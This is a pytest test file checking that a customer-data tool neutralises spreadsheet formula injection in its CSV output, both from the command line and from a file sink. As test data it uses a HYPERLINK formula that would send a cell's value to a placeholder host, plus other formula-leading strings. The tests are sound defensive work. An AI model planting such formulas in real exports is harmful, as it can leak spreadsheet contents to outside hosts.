"""A csv is opened in spreadsheets: what a source calls its customers is no formula there."""

import csv
import json
from io import StringIO
from pathlib import Path

import pytest
from typed import typed

from tenure import csv_text

CONFIG = """
[tenure]
store = "sqlite:///t.db"
[connectors.book]
use = "file"
path = "book.csv"
attributes = ["owner"]
[sinks.out]
use = "file"
path = "out"
formats = ["csv", "json"]
"""
LINK = '=HYPERLINK("http://x.test?"&A1,"open")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"])
def test_a_formula_becomes_text_and_can_be_had_back(text: str):
    _, (cell,) = csv.reader(StringIO(csv_text([{"name": text}]), newline=""))
    assert cell == f"'{text}"


def test_no_text_ends_its_line():
    (_, row) = csv.reader(StringIO(csv_text([{"name": "a\r=1", "n": 2}]), newline=""))
    assert row == ["a\r=1", "2"]


@pytest.mark.parametrize("cell", ["-5.000000", "+150.000000", "12", "a=b", "", -3, None])
def test_numbers_and_other_texts_stay_as_they_are(cell: object):
    line = csv_text([{"name": cell}]).splitlines()[1]
    assert line.strip('"') == ("" if cell is None else str(cell))


@pytest.fixture(scope="module")
def pushed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the figures of a customer whose owner is a formula."""
    folder = tmp_path_factory.mktemp("sheet")
    (folder / "plugins.toml").write_text(CONFIG)
    with (folder / "book.csv").open("w", newline="") as file:
        rows = [["customer", "customer_name", "start", "mrr", "owner"]]
        csv.writer(file).writerows([*rows, ["-1+1", LINK, "2025-01-01", "5", "@a"]])
    assert typed(folder, "sync", "--quiet").returncode == 0
    assert typed(folder, "push").returncode == 0
    return folder


def test_commands_and_the_file_sink_write_no_formula(pushed: Path):
    listed = typed(pushed, "customers", "--format", "csv").stdout
    written = (pushed / "out" / "customers.csv").read_text()
    for text in (listed, written):
        (row,) = csv.DictReader(text.splitlines())
        assert (row["id"], row["name"]) == ("'-1+1", f"'{LINK}")


def test_json_has_the_names_as_they_are(pushed: Path):
    listed = json.loads(typed(pushed, "customers", "--format", "json").stdout)["rows"]
    written = json.loads((pushed / "out" / "customers.json").read_text())["rows"]
    assert [row["name"] for row in (*listed, *written)] == [LINK, LINK]


def test_a_second_push_finds_the_file_as_it_is_to_be(pushed: Path):
    assert typed(pushed, "push").stdout == "out: up to date\n"
